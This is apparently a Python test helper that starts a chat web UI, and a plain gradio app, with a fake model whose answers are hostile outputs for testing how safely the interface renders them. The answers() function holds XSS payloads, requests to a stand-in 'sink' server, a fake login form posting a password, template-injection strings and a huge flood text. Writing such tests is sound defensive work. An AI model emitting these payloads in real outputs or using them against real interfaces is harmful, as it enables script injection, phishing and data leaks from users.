"""Our app with a model that answers whatever the worst one could, and an upload limit that a test can reach; and a
plain gradio app for the same attacks. Each in a process of its own: `python -m tests.kit.hostile_app ours|plain PORT
[WORKSPACE]`.
"""

from __future__ import annotations

import sys
from collections.abc import Iterator, Sequence
from typing import Any

UPLOAD_LIMIT = "3mb"


def answers(sink: str) -> dict[str, str]:
    """Return what a hostile model answers to each question. sink: a server that must never get a request."""
    return {
        "image": f"![x]({sink}/markdown.png) <img src='{sink}/tag.png'> <img src=x onerror=\"window.ran='onerror'\">",
        "script": f"<script>window.ran='script'</script><script src='{sink}/s.js'></script><svg "
        f"onload=\"window.ran='svg'\"></svg>"
        "<iframe srcdoc=\"<script>parent.ran='iframe'</script>\"></iframe><a "
        "href=\"javascript:window.ran='link'\">click</a>",
        "form": f"<form action='{sink}/form' method=post><input name=password value=secret><button>Log in "
        f"again</button></form>"
        f"<link rel=stylesheet href='{sink}/l.css'><style>@import '{sink}/i.css';</style><object "
        f"data='{sink}/o'></object>",
        "fences": "```html\n<script>window.ran='fence'</script>\n````\n```\n~~~\n" + "```python\n" * 50,
        "surrogates": "half \ud83d of \udc4d a character \x00\x07\u202e backwards",
        "long": ("a word of the hundred thousand, " * 4 + "<b>\n\n") * 4000,  # about 100,000 tokens
        "template": "${window.ran='template'} {{window.ran='braces'}} {{{x}}} <%= 1 %> \\`${1}\\`",
    }


class FakeChat:
    """Replaces core.chat.client.ChatClient: loaded at once, answers as `answers` says."""

    def __init__(self, sink: str):
        from core.chat.client import ChatState

        self._answers, self._state = answers(sink), ChatState()

    def state(self) -> Any:
        return self._state

    def load(self, target: Any) -> None:
        from core.chat.client import ChatState

        self._state = ChatState(phase="ready", target=target, dtype="float32")

    def ask(self, base: Sequence[dict], tuned: Sequence[dict] | None, sampling: Any, strength: float) -> FakeAnswer:
        return FakeAnswer(self._answers.get(str(base[-1]["content"]), "nothing"))

    def unload(self, why: Any = None) -> None:
        from core.chat.client import ChatState

        self._state = ChatState()

    def stop(self) -> None: ...


class FakeAnswer:
    def __init__(self, text: str):
        self.text = text

    def __enter__(self) -> FakeAnswer:
        return self

    def __exit__(self, *exception: object) -> None: ...

    def batches(self) -> Iterator[list]:
        from core.chat.answer import Done, Piece

        size = max(1, len(self.text) // 10)
        for start in range(0, len(self.text), size):
            yield [Piece("base", self.text[start : start + size])]
        yield [Done("base", tokens=len(self.text) // 4, seconds=1.0, finish_reason="stop")]


def ours(port: str, workspace: str, sink: str) -> int:
    import webui.app
    import webui.state.services
    from webui.__main__ import main

    webui.app.LARGEST_UPLOAD = UPLOAD_LIMIT
    webui.state.services.ChatClient = lambda space, **settings: FakeChat(sink)
    return main(["--port", port, "--workspace", workspace, "--no-browser"])


def plain(port: str, sink: str) -> None:
    """Serve gradio as it comes, with what people write first: a text that goes to a component of each kind, and a page
    with a login."""
    import gradio as gr

    with gr.Blocks(analytics_enabled=False) as demo:
        said = gr.Textbox(elem_id="said")
        shown = {
            "chatbot": gr.Chatbot(elem_id="chatbot"),
            "file": gr.File(),
            "html": gr.HTML(elem_id="html"),
        }
        for name, component in shown.items():
            gr.Button(name, elem_id=f"go-{name}").click(
                (lambda text: [{"role": "assistant", "content": answers(sink).get(text, text)}])
                if name == "chatbot"
                else str,
                said,
                component,
                api_visibility="private",
                api_name=name,
            )
    with gr.Blocks(analytics_enabled=False) as locked:
        gr.Textbox()
    locked.launch(server_port=int(port) + 1, prevent_thread_lock=True, auth=("me", "secret"), quiet=True)
    demo.launch(server_port=int(port), quiet=True)


if __name__ == "__main__":
    kind, *rest = sys.argv[1:]
    sys.exit(ours(*rest) if kind == "ours" else plain(*rest))
